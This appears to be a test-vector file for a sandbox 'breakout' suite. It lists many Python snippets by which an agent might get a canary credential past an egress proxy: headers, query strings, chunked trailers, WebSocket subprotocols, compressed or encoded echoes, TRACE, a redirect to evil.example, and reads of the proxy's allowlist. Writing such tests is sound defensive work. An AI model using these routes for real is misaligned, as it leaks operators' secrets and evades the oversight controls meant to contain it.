import { type Vector, vectors } from "../../support/breakout/vector.ts"

/** The agent's own account at a listed host, and the operator's token on its way back. */

const header = (line: string) => `get("/public/ok", ${line})`

const own = vectors(
  { gate: "egress: strip", leak: "canary", lang: "py" },
  ["Authorization of the agent's own", "own", header(`"Authorization: Bearer " + CANARY`)],
  ["Authorization twice", "own", header(`"Authorization: Bearer " + CANARY, "authorization: Basic " + CANARY`)],
  ["x-api-key", "own", header(`"x-api-key: " + CANARY`)],
  ["x_api_key with underscores", "own", header(`"x_api_key: " + CANARY`)],
  ["api-key", "own", header(`"Api-Key: " + CANARY`)],
  ["private-token", "own", header(`"PRIVATE-TOKEN: " + CANARY`)],
  ["a cookie", "own", header(`"Cookie: session=" + CANARY`)],
  ["x-goog-api-key", "own", header(`"X-Goog-Api-Key: " + CANARY`)],
  ["x-amz-security-token", "own", header(`"X-Amz-Security-Token: " + CANARY`)],
  ["x-auth-token", "own", header(`"X-Auth-Token: " + CANARY`)],
  ["DPoP", "own", header(`"DPoP: " + CANARY`)],
  [
    "an HTTP message signature",
    "own",
    header(`"Signature-Input: sig1=();keyid=\\"me\\"", "Signature: sig1=:" + CANARY + ":"`),
  ],
  ["X-CSRF and session headers", "own", header(`"X-Session-Token: " + CANARY`)],
  ["a vendor's own -token header", "own", header(`"X-Acme-Access-Token: " + CANARY`)],
  ["access_token in the query", "own", `get("/public/ok?access_token=" + CANARY)`],
  ["key in the query", "own", `get("/public/ok?a=1&key=" + CANARY)`],
  ["an escaped name in the query", "own", `get("/public/ok?%61ccess_token=" + CANARY)`],
  ["a token behind a semicolon", "own", `get("/public/ok?a=1;api_key=" + CANARY)`],
  ["a token as a list", "own", `get("/public/ok?token[]=" + CANARY)`],
  [
    "X-Amz-Signature in the query",
    "own",
    `get("/public/ok?X-Amz-Credential=" + CANARY + "&X-Amz-Signature=" + CANARY)`,
  ],
  [
    "a credential in trailers",
    "18",
    `
ask(f"POST /public/ok HTTP/1.1\\r\\nHost: listed.example\\r\\nTransfer-Encoding: chunked\\r\\nTrailer: authorization\\r\\n\\r\\n0\\r\\nAuthorization: Bearer {CANARY}\\r\\n\\r\\n")`,
  ],
  [
    "an api key in trailers",
    "18",
    `
ask(f"POST /public/ok HTTP/1.1\\r\\nHost: listed.example\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\nX-Api-Key: {CANARY}\\r\\n\\r\\n")`,
  ],
  [
    "a method override in trailers",
    "18",
    `ask(f"POST /public/ok HTTP/1.1\\r\\nHost: listed.example\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\nX-HTTP-Method-Override: {CANARY}\\r\\n\\r\\n")`,
  ],
  [
    "a credential in a chunk extension",
    "13",
    `
ask(f"POST /public/ok HTTP/1.1\\r\\nHost: listed.example\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n2;token={CANARY}\\r\\nok\\r\\n0\\r\\n\\r\\n")`,
  ],
  [
    "a credential where the operator's is a named header",
    "own",
    `get("/ok", "X-Api-Key: " + CANARY, "Authorization: Bearer " + CANARY, host="keyed.example")`,
  ],
  [
    "a token as WebSocket subprotocol",
    "18",
    `
ask(f"GET /ws HTTP/1.1\\r\\nHost: ws.example\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Protocol: base64url.bearer.authorization.{CANARY}\\r\\n\\r\\n", authority="ws.example:443", sni="ws.example")`,
  ],
)

const unshown = "outside there is no injected token to give back; guards.test shows the leak without redaction"
const helper = "an upstream that hides the token on purpose has it already; it needs no agent to pass it on"
const echo = (how: string, ...headers: string[]) =>
  `get("/public/echo/${how}", ${headers.map((line) => `"${line}"`).join(", ")})`

/** What an agent makes of the frames: their payloads, one after the other. */
const wsEcho = (how: string) => `
got = get("/ws/${how}", "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", host="ws.example")
rest = got.split(b"\\r\\n\\r\\n", 1)[-1]; payload = b""
while len(rest) >= 2:
    size = rest[1] & 127; payload += rest[2:2 + size]; rest = rest[2 + size:]
show(b"PAYLOAD " + payload)`

const echoes = vectors(
  { gate: "redaction", leak: "secret", lang: "py", unshown },
  ["the token in a body", "17", echo("body")],
  ["the token in base64", "15", echo("base64")],
  ["the token in base64, shifted by one", "15", echo("base64-1")],
  ["the token in base64, shifted by two", "15", echo("base64-2")],
  ["the token in base64url", "15", echo("base64url")],
  ["the token in hex", "15", echo("hex")],
  ["the token in hex, upper case", "15", echo("hex-upper")],
  ["the token percent-encoded", "15", echo("percent")],
  ["the token in JSON", "15", echo("json")],
  ["the token as basic credentials", "15", echo("basic")],
  ["the token in a header", "17", echo("header")],
  ["the token in a header's name", "own", echo("header-name")],
  ["the token in a cookie", "17", echo("cookie")],
  ["the token in Location", "14", echo("location")],
  ["the token in the reason", "own", echo("reason")],
  ["the token in an error page", "17", echo("error")],
  ["the token in an interim answer", "own", echo("interim")],
  ["the token in trailers", "17", echo("trailer")],
  ["the token in a chunk extension", "17", echo("chunk-extension")],
  ["the token over chunk borders", "15", echo("chunks")],
  ["the token in slices", "15", echo("slices")],
  ["the token gzipped", "15", echo("gzip", "Accept-Encoding: gzip")],
  ["the token deflated", "15", echo("deflate", "Accept-Encoding: deflate")],
  ["the token in brotli", "15", echo("br", "Accept-Encoding: br")],
  ["the token gzipped twice", "15", echo("gzip-twice", "Accept-Encoding: gzip")],
  ["the token in an unknown coding", "15", echo("unknown-coding", "Accept-Encoding: x-bottle")],
  ["the token in a second member of gzip", "15", echo("gzip-members")],
  ["the token behind gzip", "own", echo("gzip-and-more")],
  ["the token in GZip, spelled so", "own", echo("upper-case")],
  ["the token in x-gzip", "own", echo("x-gzip")],
  ["the token in raw deflate", "own", echo("raw-deflate")],
  ["two codings on two lines", "own", echo("coding-twice")],
  ["a coding without a name", "own", echo("empty-coding"), { limit: helper }],
  ["the token in a folded header", "own", echo("folded")],
  ["the token behind a bare line feed", "own", echo("bare-lf")],
  ["the token from HTTP/1.0", "own", echo("old")],
  ["the token behind the end of the body", "own", echo("early")],
  ["the token where no body may be", "own", echo("no-content")],
  ["the token in Refresh", "own", echo("refresh")],
  ["a coding that is a lie", "own", echo("lying-coding")],
  ["gzip that is not declared", "own", echo("hidden-gzip"), { limit: helper }],
  ["the token backwards", "own", echo("reversed"), { limit: helper }],
  ["the token in ranges", "own", echo("range", "Range: bytes=0-11")],
  ["the token to HTTP/1.0", "own", `ask("GET /public/echo/chunks HTTP/1.0\\r\\nHost: listed.example\\r\\n\\r\\n")`],
  ["the token where a named header carries it", "17", `get("/echo/body", host="keyed.example")`],
  ["the token in a WebSocket message of two fragments", "18", wsEcho("fragments")],
  ["the token in one WebSocket frame", "18", wsEcho("whole")],
  ["the token by TRACE", "13", `get("/public/ok", method="TRACE")`],
  ["the token to an unlisted host after a redirect", "14", `get("/public/redirect?to=https://evil.example/")`],
  [
    "what egress says of itself",
    "11",
    `raw(b"GET http://_egress.local/allowlist HTTP/1.1\\r\\nHost: _egress.local\\r\\n\\r\\n"); raw(b"GET http://_egress.local/health HTTP/1.1\\r\\nHost: _egress.local\\r\\n\\r\\n")`,
  ],
)

export const credentials: readonly Vector[] = [...own, ...echoes]
